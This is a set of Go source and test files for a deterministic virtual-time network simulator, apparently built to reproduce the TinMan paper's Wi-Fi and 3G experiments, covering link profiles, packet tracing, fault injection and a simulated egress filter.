		`tinman_latency_seconds_bucket{op="ping",le="+Inf"} 1`,
		`tinman_latency_seconds_count{op="ping"} 1`,
		`tinman_latency_seconds_sum{op="ping"} 8e-05`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("prometheus output missing %q:\n%s", want, out)
		}
	}
	// Buckets are cumulative.
	if strings.Contains(out, `le="5e-05"} 1`) {
		// 80µs sample must not land in the 50µs bucket.
		t.Errorf("sample miscounted in 50µs bucket:\n%s", out)
	}
}

func TestGateMetricName(t *testing.T) {
	if got := gateMetricName("ok_name{l=\"v\"}"); got != "ok_name{l=\"v\"}" {
		t.Fatalf("clean name mangled: %q", got)
	}
	if got := gateMetricName("bad\nname é"); got != "bad_name___" {
		t.Fatalf("dirty name = %q", got)
	}
}
