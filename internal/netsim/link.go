package netsim

import (
	"fmt"
	"time"
)

// Profile describes the performance characteristics of a link. The two
// built-in profiles correspond to the paper's Wi-Fi and 3G environments
// (§6.2): 3G has much higher latency, lower bandwidth, and a radio that takes
// time to promote from idle to the high-power connected state.
type Profile struct {
	Name string
	// Latency is the one-way propagation delay.
	Latency time.Duration
	// Jitter is the maximum random extra delay added per packet.
	Jitter time.Duration
	// Bandwidth is in bytes per second; 0 means infinite.
	Bandwidth float64
	// Loss is the probability in [0,1) that a packet is dropped.
	Loss float64
	// PromotionDelay models cellular radio state promotion: the extra delay
	// on the first packet after the link has been idle for IdleTimeout.
	PromotionDelay time.Duration
	// IdleTimeout is how long the link stays "hot" after the last packet.
	IdleTimeout time.Duration
}

// Common profiles, calibrated to the era of the paper (2014-2015 campus
// Wi-Fi and HSPA 3G).
var (
	// WiFi is a low-latency local wireless network to a nearby trusted node.
	WiFi = Profile{
		Name:      "wifi",
		Latency:   4 * time.Millisecond,
		Jitter:    2 * time.Millisecond,
		Bandwidth: 2.5e6, // 20 Mbps
	}
	// ThreeG is an HSPA cellular link with radio promotion delays.
	ThreeG = Profile{
		Name:           "3g",
		Latency:        65 * time.Millisecond,
		Jitter:         25 * time.Millisecond,
		Bandwidth:      750e3, // 6 Mbps HSUPA
		PromotionDelay: 600 * time.Millisecond,
		IdleTimeout:    4 * time.Second,
	}
	// Wired is the trusted-node-to-origin-server path (datacenter quality).
	Wired = Profile{
		Name:      "wired",
		Latency:   10 * time.Millisecond,
		Jitter:    2 * time.Millisecond,
		Bandwidth: 12.5e6, // 100 Mbps
	}
	// Loopback connects a host to itself with negligible cost.
	Loopback = Profile{Name: "loopback", Latency: 10 * time.Microsecond}
)

// Packet is the unit of transfer between hosts. Payload semantics belong to
// the layer above (tcpsim frames segments into packets).
type Packet struct {
	Src, Dst string // host addresses ("IP"s)
	Payload  []byte
}

// Size returns the simulated wire size of the packet including a nominal
// IP-like header.
func (p *Packet) Size() int { return len(p.Payload) + 40 }

// Link is a bidirectional pipe between two hosts.
type Link struct {
	net      *Net
	a, b     *Host
	prof     Profile
	lastUse  time.Duration
	everUsed bool
	// busyUntil models serialization: a link transmits one packet at a time
	// per direction; subsequent packets queue behind it.
	busyUntil [2]time.Duration
	// lastArrival keeps each direction FIFO: jitter delays packets but a
	// link never reorders them.
	lastArrival [2]time.Duration
	// Delivered counts packets that made it across (per direction a->b, b->a).
	Delivered [2]uint64
	// Dropped counts lost packets.
	Dropped uint64
	// down partitions the link (fault injection, see fault.go); dropNext
	// is the remaining drop-N-then-heal budget.
	down     bool
	dropNext int
}

// Profile returns the link's performance profile.
func (l *Link) Profile() Profile { return l.prof }

// transmit schedules delivery of pkt from src across the link.
func (l *Link) transmit(src *Host, pkt *Packet) {
	dir := 0
	dst := l.b
	if src == l.b {
		dir = 1
		dst = l.a
	}
	n := l.net

	if l.down {
		l.Dropped++
		return
	}
	if l.dropNext > 0 {
		l.dropNext--
		l.Dropped++
		return
	}
	if l.prof.Loss > 0 && n.rng.Float64() < l.prof.Loss {
		l.Dropped++
		return
	}

	delay := l.prof.Latency
	if l.prof.Jitter > 0 {
		delay += time.Duration(n.rng.Int63n(int64(l.prof.Jitter)))
	}
	// Radio promotion: first packet after an idle period pays extra.
	if l.prof.PromotionDelay > 0 {
		if !l.everUsed || n.Now()-l.lastUse > l.prof.IdleTimeout {
			delay += l.prof.PromotionDelay
		}
	}
	// Serialization delay and head-of-line queueing.
	var ser time.Duration
	if l.prof.Bandwidth > 0 {
		ser = time.Duration(float64(pkt.Size()) / l.prof.Bandwidth * float64(time.Second))
	}
	start := n.Now()
	if l.busyUntil[dir] > start {
		start = l.busyUntil[dir]
	}
	done := start + ser
	l.busyUntil[dir] = done
	l.everUsed = true
	l.lastUse = done

	arrival := done + delay
	if arrival < l.lastArrival[dir] {
		arrival = l.lastArrival[dir]
	}
	l.lastArrival[dir] = arrival
	total := arrival - n.Now()
	n.Schedule(total, func() {
		n.nmsgs++
		n.nbytes += uint64(pkt.Size())
		l.Delivered[dir]++
		if n.tracer != nil {
			n.tracer.record(TraceEvent{At: n.Now(), Src: pkt.Src, Dst: pkt.Dst, Size: pkt.Size()})
		}
		l.lastUse = n.Now()
		dst.deliver(pkt)
	})
}

// Host is a network endpoint with an address and an inbound packet handler.
type Host struct {
	net     *Net
	addr    string
	links   map[string]*Link // peer addr -> link
	handler func(*Packet)
	// egressFilter, when true, drops outbound packets whose source address
	// does not match the host (anti-spoofing). The paper requires the
	// trusted node to be deployed without egress filtering (§5.4).
	egressFilter bool
	// Sent/Received count packets from this host's perspective.
	Sent, Received uint64
	SentBytes      uint64
	ReceivedBytes  uint64
	// down crashes the host (fault injection, see fault.go): nothing is
	// sent and inbound packets are silently lost.
	down bool
}

// AddHost creates a host with the given address. Addresses must be unique.
func (n *Net) AddHost(addr string) *Host {
	if _, dup := n.hosts[addr]; dup {
		panic(fmt.Sprintf("netsim: duplicate host address %q", addr))
	}
	h := &Host{net: n, addr: addr, links: make(map[string]*Link)}
	n.hosts[addr] = h
	return h
}

// Host returns the host with the given address, or nil.
func (n *Net) Host(addr string) *Host { return n.hosts[addr] }

// Connect joins two hosts with a link of the given profile. At most one link
// may exist per host pair.
func (n *Net) Connect(a, b *Host, prof Profile) *Link {
	if a == b {
		panic("netsim: cannot link a host to itself; loopback is implicit")
	}
	if _, dup := a.links[b.addr]; dup {
		panic(fmt.Sprintf("netsim: hosts %s and %s already linked", a.addr, b.addr))
	}
	l := &Link{net: n, a: a, b: b, prof: prof}
	a.links[b.addr] = l
	b.links[a.addr] = l
	n.links = append(n.links, l)
	return l
}

// Addr returns the host's address.
func (h *Host) Addr() string { return h.addr }

// Handle registers the inbound packet handler. Exactly one handler is
// active; layers above (tcpsim) demultiplex further.
func (h *Host) Handle(fn func(*Packet)) { h.handler = fn }

// Handler returns the currently installed inbound handler (nil if none); it
// lets middleboxes such as the payload-replacement engine chain in front of
// an existing stack.
func (h *Host) Handler() func(*Packet) { return h.handler }

// Link returns the link to the peer address, or nil if not directly linked.
func (h *Host) Link(peer string) *Link { return h.links[peer] }

// Send transmits a packet. The source address is forced to this host unless
// spoofing is intentionally allowed by SendRaw (TinMan's payload replacement
// requires the trusted node to send packets bearing the device's source
// address, §5.4 "Network policy on the trusted node").
func (h *Host) Send(pkt *Packet) error {
	pkt.Src = h.addr
	return h.SendRaw(pkt)
}

// SendRaw transmits a packet without rewriting the source address. If the
// host enforces egress filtering and the source is spoofed, the packet is
// dropped and an error returned.
func (h *Host) SendRaw(pkt *Packet) error {
	if h.down {
		// A crashed host sends nothing; the packet vanishes without error,
		// like a kernel whose NIC driver is gone.
		return nil
	}
	if h.egressFilter && pkt.Src != h.addr {
		return fmt.Errorf("netsim: host %s egress filter dropped spoofed packet from %s", h.addr, pkt.Src)
	}
	if pkt.Dst == h.addr {
		// Implicit loopback.
		h.net.Schedule(Loopback.Latency, func() {
			if h.net.tracer != nil {
				h.net.tracer.record(TraceEvent{At: h.net.Now(), Src: pkt.Src, Dst: pkt.Dst, Size: pkt.Size(), Note: "loopback"})
			}
			h.deliver(pkt)
		})
		h.Sent++
		h.SentBytes += uint64(pkt.Size())
		return nil
	}
	l := h.links[pkt.Dst]
	if l == nil {
		// One-hop routing through a host that links to both endpoints is not
		// modeled; topologies in this repo are fully meshed where needed.
		return fmt.Errorf("netsim: host %s has no link to %s", h.addr, pkt.Dst)
	}
	h.Sent++
	h.SentBytes += uint64(pkt.Size())
	l.transmit(h, pkt)
	return nil
}

// SetEgressFilter enables or disables source-address verification on egress.
func (h *Host) SetEgressFilter(on bool) { h.egressFilter = on }

// EgressFilter reports whether egress filtering is active.
func (h *Host) EgressFilter() bool { return h.egressFilter }

func (h *Host) deliver(pkt *Packet) {
	if h.down {
		// Crashed hosts lose inbound traffic, including packets that were
		// already in flight when the crash fired.
		return
	}
	h.Received++
	h.ReceivedBytes += uint64(pkt.Size())
	if h.handler != nil {
		h.handler(pkt)
	}
}
