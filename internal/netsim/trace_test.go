package netsim

import (
	"bytes"
	"strings"
	"testing"
	"time"
)

func tracedPair(t *testing.T) (*Net, *Tracer) {
	t.Helper()
	n := New(1)
	a := n.AddHost("a")
	b := n.AddHost("b")
	n.Connect(a, b, WiFi)
	b.Handle(func(*Packet) {})
	a.Handle(func(*Packet) {})
	tr := &Tracer{}
	n.Trace(tr)
	return n, tr
}

func TestTracerRecordsDeliveries(t *testing.T) {
	n, tr := tracedPair(t)
	n.Host("a").Send(&Packet{Dst: "b", Payload: make([]byte, 100)})
	n.Host("b").Send(&Packet{Dst: "a", Payload: make([]byte, 50)})
	n.Run()
	if tr.Len() != 2 {
		t.Fatalf("events = %d", tr.Len())
	}
	// Arrival order between the two directions depends on jitter; find the
	// a->b event rather than assuming it is first.
	var ab *TraceEvent
	for i, e := range tr.Events() {
		if e.Src == "a" {
			ev := tr.Events()[i]
			ab = &ev
		}
	}
	if ab == nil || ab.Dst != "b" || ab.Size != 140 {
		t.Fatalf("a->b event = %+v", ab)
	}
	if ab.At <= 0 {
		t.Fatal("event has no timestamp")
	}
	if tr.CountBetween("a", "b") != 1 || tr.CountBetween("", "") != 2 {
		t.Fatal("CountBetween wrong")
	}
	if tr.BytesBetween("a", "b") != 140 {
		t.Fatalf("BytesBetween = %d", tr.BytesBetween("a", "b"))
	}
}

func TestTracerFilterAndCap(t *testing.T) {
	n, tr := tracedPair(t)
	tr.Filter = func(e TraceEvent) bool { return e.Dst == "b" }
	tr.Cap = 2
	for i := 0; i < 5; i++ {
		n.Host("a").Send(&Packet{Dst: "b", Payload: []byte{1}})
		n.Host("b").Send(&Packet{Dst: "a", Payload: []byte{1}})
	}
	n.Run()
	if tr.Len() != 2 {
		t.Fatalf("capped events = %d", tr.Len())
	}
	if tr.Dropped != 3 {
		t.Fatalf("dropped = %d", tr.Dropped)
	}
	for _, e := range tr.Events() {
		if e.Dst != "a" && e.Dst != "b" {
			t.Fatal("filter leak")
		}
		if e.Dst == "a" {
			t.Fatal("filtered event recorded")
		}
	}
}

func TestTracerLoopbackAndDump(t *testing.T) {
	n, tr := tracedPair(t)
	n.Host("a").Send(&Packet{Dst: "a", Payload: []byte("self")})
	n.Run()
	if tr.Len() != 1 || tr.Events()[0].Note != "loopback" {
		t.Fatalf("events = %+v", tr.Events())
	}
	var buf bytes.Buffer
	tr.Dump(&buf)
	if !strings.Contains(buf.String(), "loopback") {
		t.Fatal("dump missing note")
	}
	tr.Reset()
	if tr.Len() != 0 || tr.Dropped != 0 {
		t.Fatal("reset incomplete")
	}
}

func TestTracerDetach(t *testing.T) {
	n, tr := tracedPair(t)
	n.Trace(nil)
	n.Host("a").Send(&Packet{Dst: "b", Payload: []byte{1}})
	n.Run()
	if tr.Len() != 0 {
		t.Fatal("detached tracer recorded")
	}
}

func TestTraceEventString(t *testing.T) {
	e := TraceEvent{At: time.Second, Src: "a", Dst: "b", Size: 10, Note: "x"}
	s := e.String()
	if !strings.Contains(s, "a") || !strings.Contains(s, "10") || !strings.Contains(s, "x") {
		t.Fatalf("event string = %q", s)
	}
}
