package netsim

import (
	"fmt"
	"io"
	"sync"
	"time"

	"tinman/internal/obs"
)

// TraceEvent is one recorded packet delivery.
type TraceEvent struct {
	At   time.Duration
	Src  string
	Dst  string
	Size int
	// Note annotates the event (set by taps, e.g. "redirected").
	Note string
}

// String renders the event as one trace line.
func (e TraceEvent) String() string {
	s := fmt.Sprintf("%12v  %-15s -> %-15s  %5dB", e.At, e.Src, e.Dst, e.Size)
	if e.Note != "" {
		s += "  " + e.Note
	}
	return s
}

// Tracer records packet deliveries network-wide. Attach with Net.Trace; it
// is the simulator's tcpdump, used by tests asserting on traffic patterns
// (e.g. "the marked record was delivered to the node, not the server") and
// by debugging sessions.
type Tracer struct {
	mu     sync.Mutex
	events []TraceEvent
	// Filter, when set, records only matching events.
	Filter func(TraceEvent) bool
	// Cap bounds memory; 0 means unlimited. When full, new events are
	// dropped and Dropped counts them.
	Cap     int
	Dropped uint64
	// Obs, when set, forwards each (post-filter) event to the obs tracer as
	// an instant packet span attributed to the currently active span — so the
	// Chrome export nests wire traffic under the DSM/TLS span that caused it.
	Obs *obs.Tracer
}

// record appends an event subject to filter and cap.
func (tr *Tracer) record(e TraceEvent) {
	tr.mu.Lock()
	if tr.Filter != nil && !tr.Filter(e) {
		tr.mu.Unlock()
		return
	}
	if tr.Cap > 0 && len(tr.events) >= tr.Cap {
		tr.Dropped++
		tr.mu.Unlock()
		return
	}
	tr.events = append(tr.events, e)
	fwd := tr.Obs
	tr.mu.Unlock()
	// Forward outside tr.mu: the obs tracer takes its own lock.
	fwd.Packet(e.At, e.Src, e.Dst, e.Size, e.Note)
}

// Events returns a copy of the recorded events.
func (tr *Tracer) Events() []TraceEvent {
	tr.mu.Lock()
	defer tr.mu.Unlock()
	return append([]TraceEvent(nil), tr.events...)
}

// Len returns the number of recorded events.
func (tr *Tracer) Len() int {
	tr.mu.Lock()
	defer tr.mu.Unlock()
	return len(tr.events)
}

// Reset clears the trace.
func (tr *Tracer) Reset() {
	tr.mu.Lock()
	defer tr.mu.Unlock()
	tr.events = nil
	tr.Dropped = 0
}

// Dump writes the trace to w, one event per line.
func (tr *Tracer) Dump(w io.Writer) {
	for _, e := range tr.Events() {
		fmt.Fprintln(w, e.String())
	}
}

// CountBetween tallies events from src to dst (empty matches any).
func (tr *Tracer) CountBetween(src, dst string) int {
	tr.mu.Lock()
	defer tr.mu.Unlock()
	n := 0
	for _, e := range tr.events {
		if (src == "" || e.Src == src) && (dst == "" || e.Dst == dst) {
			n++
		}
	}
	return n
}

// BytesBetween sums delivered bytes from src to dst (empty matches any).
func (tr *Tracer) BytesBetween(src, dst string) int {
	tr.mu.Lock()
	defer tr.mu.Unlock()
	n := 0
	for _, e := range tr.events {
		if (src == "" || e.Src == src) && (dst == "" || e.Dst == dst) {
			n += e.Size
		}
	}
	return n
}

// Trace attaches a tracer to the network; subsequent deliveries are
// recorded. Passing nil detaches.
func (n *Net) Trace(tr *Tracer) { n.tracer = tr }
