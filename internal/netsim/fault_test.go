package netsim

import (
	"testing"
	"time"
)

// faultPair builds two hosts joined by a Wired link, with b counting
// received payload bytes.
func faultPair(t *testing.T, seed int64) (*Net, *Host, *Host, *Link, *int) {
	t.Helper()
	n := New(seed)
	a := n.AddHost("10.0.0.1")
	b := n.AddHost("10.0.0.2")
	l := n.Connect(a, b, Wired)
	got := new(int)
	b.Handle(func(p *Packet) { *got += len(p.Payload) })
	return n, a, b, l, got
}

// sendEvery schedules count one-byte packets from a to b, one per interval
// starting at interval.
func sendEvery(n *Net, a *Host, dst string, interval time.Duration, count int) {
	for i := 1; i <= count; i++ {
		n.Schedule(time.Duration(i)*interval, func() {
			a.Send(&Packet{Dst: dst, Payload: []byte{0xAA}})
		})
	}
}

func TestLinkPartitionWindow(t *testing.T) {
	n, a, b, l, got := faultPair(t, 1)
	// 10 packets at 100ms intervals; the link is down for t in (250ms, 650ms]:
	// packets at 300..600ms (4 of them) are lost.
	sendEvery(n, a, b.Addr(), 100*time.Millisecond, 10)
	l.PartitionBetween(250*time.Millisecond, 650*time.Millisecond)
	n.Run()
	if *got != 6 {
		t.Fatalf("delivered %d packets, want 6", *got)
	}
	if l.Dropped != 4 {
		t.Fatalf("Dropped = %d, want 4", l.Dropped)
	}
	if l.Down() {
		t.Fatal("link still down after heal")
	}
}

func TestLinkPartitionSparesInFlight(t *testing.T) {
	n, a, b, l, got := faultPair(t, 1)
	// The packet leaves before the partition; the partition must not reach
	// into the in-flight delivery.
	n.Schedule(time.Millisecond, func() {
		a.Send(&Packet{Dst: b.Addr(), Payload: []byte{1}})
	})
	n.ScheduleAt(2*time.Millisecond, func() { l.SetDown(true) })
	n.Run()
	if *got != 1 {
		t.Fatal("in-flight packet was retroactively dropped by the partition")
	}
}

func TestLinkDropNextWindow(t *testing.T) {
	n, a, b, l, got := faultPair(t, 1)
	l.DropNext(3)
	sendEvery(n, a, b.Addr(), time.Millisecond, 5)
	n.Run()
	if *got != 2 {
		t.Fatalf("delivered %d packets, want 2 after drop-3-then-heal", *got)
	}
	if l.Dropped != 3 {
		t.Fatalf("Dropped = %d, want 3", l.Dropped)
	}
}

func TestLinkFlap(t *testing.T) {
	n, a, b, l, got := faultPair(t, 1)
	// Down for (100ms,200ms], (300ms,400ms], (500ms,600ms]. Packets go out
	// every 50ms for 600ms: 12 packets, those at 150,200,350,400,550,600ms
	// are dropped.
	l.Flap(100*time.Millisecond, 100*time.Millisecond, 100*time.Millisecond, 3)
	sendEvery(n, a, b.Addr(), 50*time.Millisecond, 12)
	n.Run()
	if *got != 6 {
		t.Fatalf("delivered %d packets, want 6", *got)
	}
	if l.Dropped != 6 {
		t.Fatalf("Dropped = %d, want 6", l.Dropped)
	}
}

func TestHostCrashBlackHoles(t *testing.T) {
	n, a, b, _, got := faultPair(t, 1)
	fromB := 0
	a.Handle(func(p *Packet) { fromB++ })
	b.CrashBetween(5*time.Millisecond, 25*time.Millisecond)
	// a -> b at 10ms: lost at delivery (b down). b -> a at 20ms: never sent.
	n.Schedule(10*time.Millisecond, func() {
		a.Send(&Packet{Dst: b.Addr(), Payload: []byte{1}})
	})
	n.Schedule(20*time.Millisecond, func() {
		b.Send(&Packet{Dst: a.Addr(), Payload: []byte{2}})
	})
	// After restart both directions work again.
	n.Schedule(30*time.Millisecond, func() {
		a.Send(&Packet{Dst: b.Addr(), Payload: []byte{3}})
		b.Send(&Packet{Dst: a.Addr(), Payload: []byte{4}})
	})
	n.Run()
	if *got != 1 {
		t.Fatalf("crashed host received %d packets, want only the post-restart one", *got)
	}
	if fromB != 1 {
		t.Fatalf("crashed host sent %d packets, want only the post-restart one", fromB)
	}
}

func TestCrashLosesInFlightPackets(t *testing.T) {
	n, a, b, _, got := faultPair(t, 1)
	// Packet leaves at 1ms (Wired latency 10ms); the crash at 5ms predates
	// its arrival, so a powered-off receiver loses it.
	n.Schedule(time.Millisecond, func() {
		a.Send(&Packet{Dst: b.Addr(), Payload: []byte{1}})
	})
	n.ScheduleAt(5*time.Millisecond, func() { b.SetDown(true) })
	n.Run()
	if *got != 0 {
		t.Fatal("in-flight packet delivered to a crashed host")
	}
}

func TestFaultScheduleDeterminism(t *testing.T) {
	run := func() (uint64, uint64, time.Duration) {
		n, a, b, l, _ := faultPair(t, 42)
		l.Flap(10*time.Millisecond, 20*time.Millisecond, 30*time.Millisecond, 5)
		b.CrashBetween(200*time.Millisecond, 240*time.Millisecond)
		sendEvery(n, a, b.Addr(), 7*time.Millisecond, 40)
		n.Run()
		return l.Delivered[0], l.Dropped, n.Now()
	}
	d1, x1, t1 := run()
	d2, x2, t2 := run()
	if d1 != d2 || x1 != x2 || t1 != t2 {
		t.Fatalf("same seed, same fault script diverged: (%d,%d,%v) vs (%d,%d,%v)",
			d1, x1, t1, d2, x2, t2)
	}
}
