// Package netsim provides a deterministic, discrete-event network simulator
// used as the testbed substrate for TinMan experiments.
//
// The original paper evaluates on a Galaxy Nexus connected over Wi-Fi and 3G
// to a PC trusted node. This package replaces that physical testbed with a
// virtual-time network: hosts exchange packets over links whose latency and
// bandwidth follow configurable profiles, and a single event loop advances a
// virtual clock. Everything is single-threaded and seeded, so experiments are
// exactly reproducible and run in microseconds of wall time regardless of how
// many simulated seconds they span.
package netsim

import (
	"container/heap"
	"fmt"
	"math/rand"
	"time"
)

// Clock is the simulated monotonic clock. The zero value starts at time 0.
type Clock struct {
	now time.Duration
}

// Now returns the current virtual time since the start of the simulation.
func (c *Clock) Now() time.Duration { return c.now }

// advance moves the clock forward. It panics on negative deltas: virtual
// time, like real time, only moves forward.
func (c *Clock) advance(d time.Duration) {
	if d < 0 {
		panic(fmt.Sprintf("netsim: clock moved backwards by %v", d))
	}
	c.now += d
}

// event is a scheduled callback in the simulator's event queue.
type event struct {
	at  time.Duration
	seq uint64 // tie-breaker: FIFO among events at the same instant
	fn  func()
}

// eventQueue is a min-heap ordered by (at, seq).
type eventQueue []*event

func (q eventQueue) Len() int { return len(q) }
func (q eventQueue) Less(i, j int) bool {
	if q[i].at != q[j].at {
		return q[i].at < q[j].at
	}
	return q[i].seq < q[j].seq
}
func (q eventQueue) Swap(i, j int) { q[i], q[j] = q[j], q[i] }
func (q *eventQueue) Push(x any)   { *q = append(*q, x.(*event)) }
func (q *eventQueue) Pop() any {
	old := *q
	n := len(old)
	ev := old[n-1]
	old[n-1] = nil
	*q = old[:n-1]
	return ev
}

// Net is the simulation universe: a clock, an event queue, and the set of
// hosts and links. All methods must be called from a single goroutine.
type Net struct {
	clock  Clock
	queue  eventQueue
	seq    uint64
	rng    *rand.Rand
	hosts  map[string]*Host // keyed by address
	links  []*Link
	nmsgs  uint64 // total packets delivered, for stats
	nbytes uint64 // total payload bytes delivered
	tracer *Tracer
}

// New creates an empty simulated network. The seed makes loss and jitter
// deterministic; the same seed always yields the same run.
func New(seed int64) *Net {
	return &Net{
		rng:   rand.New(rand.NewSource(seed)),
		hosts: make(map[string]*Host),
	}
}

// Now returns the current virtual time.
func (n *Net) Now() time.Duration { return n.clock.Now() }

// Rand exposes the simulation's seeded random source so that other layers
// (e.g. TCP initial sequence numbers) stay deterministic per seed.
func (n *Net) Rand() *rand.Rand { return n.rng }

// Schedule runs fn after delay of virtual time. Events scheduled for the same
// instant run in scheduling order.
func (n *Net) Schedule(delay time.Duration, fn func()) {
	if delay < 0 {
		delay = 0
	}
	n.seq++
	heap.Push(&n.queue, &event{at: n.clock.Now() + delay, seq: n.seq, fn: fn})
}

// Advance moves virtual time forward by d without processing events scheduled
// beyond the new time. It is used to account for local compute time (e.g. VM
// execution on the device) between network interactions; any events that
// would have fired during d are processed in order.
func (n *Net) Advance(d time.Duration) {
	deadline := n.clock.Now() + d
	for len(n.queue) > 0 && n.queue[0].at <= deadline {
		ev := heap.Pop(&n.queue).(*event)
		if ev.at > n.clock.Now() {
			n.clock.advance(ev.at - n.clock.Now())
		}
		ev.fn()
	}
	if deadline > n.clock.Now() {
		n.clock.advance(deadline - n.clock.Now())
	}
}

// Step processes the next pending event, advancing the clock to its time.
// It reports whether an event was processed.
func (n *Net) Step() bool {
	if len(n.queue) == 0 {
		return false
	}
	ev := heap.Pop(&n.queue).(*event)
	if ev.at > n.clock.Now() {
		n.clock.advance(ev.at - n.clock.Now())
	}
	ev.fn()
	return true
}

// Run processes events until the queue drains.
func (n *Net) Run() {
	for n.Step() {
	}
}

// RunUntil processes events until cond returns true or the queue drains.
// It reports whether cond was satisfied.
func (n *Net) RunUntil(cond func() bool) bool {
	for !cond() {
		if !n.Step() {
			return cond()
		}
	}
	return true
}

// RunFor processes events for d of virtual time, then stops. Events scheduled
// beyond the horizon stay queued.
func (n *Net) RunFor(d time.Duration) { n.Advance(d) }

// Stats reports totals since the simulation started.
func (n *Net) Stats() (packets, bytes uint64) { return n.nmsgs, n.nbytes }
