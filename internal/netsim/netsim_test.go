package netsim

import (
	"testing"
	"testing/quick"
	"time"
)

func TestClockAdvances(t *testing.T) {
	n := New(1)
	if n.Now() != 0 {
		t.Fatalf("new clock at %v, want 0", n.Now())
	}
	n.Advance(5 * time.Millisecond)
	if n.Now() != 5*time.Millisecond {
		t.Fatalf("clock at %v, want 5ms", n.Now())
	}
}

func TestScheduleOrdering(t *testing.T) {
	n := New(1)
	var got []int
	n.Schedule(3*time.Millisecond, func() { got = append(got, 3) })
	n.Schedule(1*time.Millisecond, func() { got = append(got, 1) })
	n.Schedule(2*time.Millisecond, func() { got = append(got, 2) })
	n.Run()
	want := []int{1, 2, 3}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("event order %v, want %v", got, want)
		}
	}
	if n.Now() != 3*time.Millisecond {
		t.Fatalf("clock at %v after run, want 3ms", n.Now())
	}
}

func TestScheduleFIFOAtSameInstant(t *testing.T) {
	n := New(1)
	var got []int
	for i := 0; i < 10; i++ {
		i := i
		n.Schedule(time.Millisecond, func() { got = append(got, i) })
	}
	n.Run()
	for i := 0; i < 10; i++ {
		if got[i] != i {
			t.Fatalf("same-instant events out of FIFO order: %v", got)
		}
	}
}

func TestNestedScheduling(t *testing.T) {
	n := New(1)
	fired := 0
	n.Schedule(time.Millisecond, func() {
		n.Schedule(time.Millisecond, func() { fired++ })
	})
	n.Run()
	if fired != 1 {
		t.Fatalf("nested event fired %d times, want 1", fired)
	}
	if n.Now() != 2*time.Millisecond {
		t.Fatalf("clock at %v, want 2ms", n.Now())
	}
}

func TestAdvanceProcessesDueEvents(t *testing.T) {
	n := New(1)
	fired := false
	n.Schedule(time.Millisecond, func() { fired = true })
	n.Advance(500 * time.Microsecond)
	if fired {
		t.Fatal("event fired before its time")
	}
	n.Advance(time.Millisecond)
	if !fired {
		t.Fatal("event did not fire during Advance past its time")
	}
	if n.Now() != 1500*time.Microsecond {
		t.Fatalf("clock at %v, want 1.5ms", n.Now())
	}
}

func TestRunUntil(t *testing.T) {
	n := New(1)
	count := 0
	for i := 0; i < 5; i++ {
		n.Schedule(time.Duration(i)*time.Millisecond, func() { count++ })
	}
	ok := n.RunUntil(func() bool { return count >= 3 })
	if !ok || count != 3 {
		t.Fatalf("RunUntil stopped at count=%d ok=%v, want 3 true", count, ok)
	}
	ok = n.RunUntil(func() bool { return count >= 100 })
	if ok {
		t.Fatal("RunUntil reported success on unsatisfiable condition")
	}
}

func TestHostDelivery(t *testing.T) {
	n := New(1)
	a := n.AddHost("10.0.0.1")
	b := n.AddHost("10.0.0.2")
	n.Connect(a, b, WiFi)

	var got *Packet
	b.Handle(func(p *Packet) { got = p })
	if err := a.Send(&Packet{Dst: "10.0.0.2", Payload: []byte("hello")}); err != nil {
		t.Fatal(err)
	}
	n.Run()
	if got == nil {
		t.Fatal("packet not delivered")
	}
	if got.Src != "10.0.0.1" || string(got.Payload) != "hello" {
		t.Fatalf("delivered %+v", got)
	}
	if n.Now() < WiFi.Latency {
		t.Fatalf("delivery took %v, want at least link latency %v", n.Now(), WiFi.Latency)
	}
}

func TestLoopbackDelivery(t *testing.T) {
	n := New(1)
	a := n.AddHost("10.0.0.1")
	got := 0
	a.Handle(func(p *Packet) { got++ })
	if err := a.Send(&Packet{Dst: "10.0.0.1", Payload: []byte("self")}); err != nil {
		t.Fatal(err)
	}
	n.Run()
	if got != 1 {
		t.Fatalf("loopback delivered %d packets, want 1", got)
	}
}

func TestNoRouteError(t *testing.T) {
	n := New(1)
	a := n.AddHost("10.0.0.1")
	n.AddHost("10.0.0.2")
	if err := a.Send(&Packet{Dst: "10.0.0.2"}); err == nil {
		t.Fatal("expected no-route error on unlinked hosts")
	}
}

func TestEgressFilterBlocksSpoofing(t *testing.T) {
	n := New(1)
	a := n.AddHost("10.0.0.1")
	b := n.AddHost("10.0.0.2")
	n.Connect(a, b, Wired)

	a.SetEgressFilter(true)
	err := a.SendRaw(&Packet{Src: "1.2.3.4", Dst: "10.0.0.2"})
	if err == nil {
		t.Fatal("egress filter should reject spoofed source")
	}

	a.SetEgressFilter(false)
	var src string
	b.Handle(func(p *Packet) { src = p.Src })
	if err := a.SendRaw(&Packet{Src: "1.2.3.4", Dst: "10.0.0.2"}); err != nil {
		t.Fatal(err)
	}
	n.Run()
	if src != "1.2.3.4" {
		t.Fatalf("spoofed packet arrived with src %q, want 1.2.3.4", src)
	}
}

func TestThreeGPromotionDelay(t *testing.T) {
	n := New(7)
	a := n.AddHost("dev")
	b := n.AddHost("node")
	prof := ThreeG
	prof.Jitter = 0
	n.Connect(a, b, prof)
	b.Handle(func(p *Packet) {})

	// First packet pays the promotion delay.
	a.Send(&Packet{Dst: "node", Payload: []byte("x")})
	n.Run()
	first := n.Now()
	if first < prof.PromotionDelay {
		t.Fatalf("first packet arrived in %v, want at least promotion delay %v", first, prof.PromotionDelay)
	}

	// A packet while the radio is hot does not.
	start := n.Now()
	a.Send(&Packet{Dst: "node", Payload: []byte("y")})
	n.Run()
	hot := n.Now() - start
	if hot >= prof.PromotionDelay {
		t.Fatalf("hot-radio packet took %v, should avoid promotion delay %v", hot, prof.PromotionDelay)
	}

	// After the idle timeout the promotion delay returns.
	n.Advance(prof.IdleTimeout + time.Second)
	start = n.Now()
	a.Send(&Packet{Dst: "node", Payload: []byte("z")})
	n.Run()
	cold := n.Now() - start
	if cold < prof.PromotionDelay {
		t.Fatalf("post-idle packet took %v, want at least promotion delay", cold)
	}
}

func TestBandwidthSerialization(t *testing.T) {
	n := New(1)
	a := n.AddHost("a")
	b := n.AddHost("b")
	prof := Profile{Name: "slow", Latency: 0, Bandwidth: 1000} // 1 KB/s
	n.Connect(a, b, prof)
	done := 0
	b.Handle(func(p *Packet) { done++ })

	a.Send(&Packet{Dst: "b", Payload: make([]byte, 960)}) // 1000 B on the wire
	n.Run()
	if got := n.Now(); got < time.Second || got > 1100*time.Millisecond {
		t.Fatalf("1000B over 1KB/s took %v, want ~1s", got)
	}

	// Two packets queue behind each other (head-of-line).
	n2 := New(1)
